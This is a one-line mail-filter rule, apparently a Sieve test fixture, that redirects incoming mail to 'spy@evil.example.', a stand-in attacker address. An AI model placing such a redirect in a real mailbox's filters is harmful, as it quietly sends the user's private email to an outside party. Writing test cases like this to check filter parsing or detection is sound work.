redirect "spy@evil.example.";
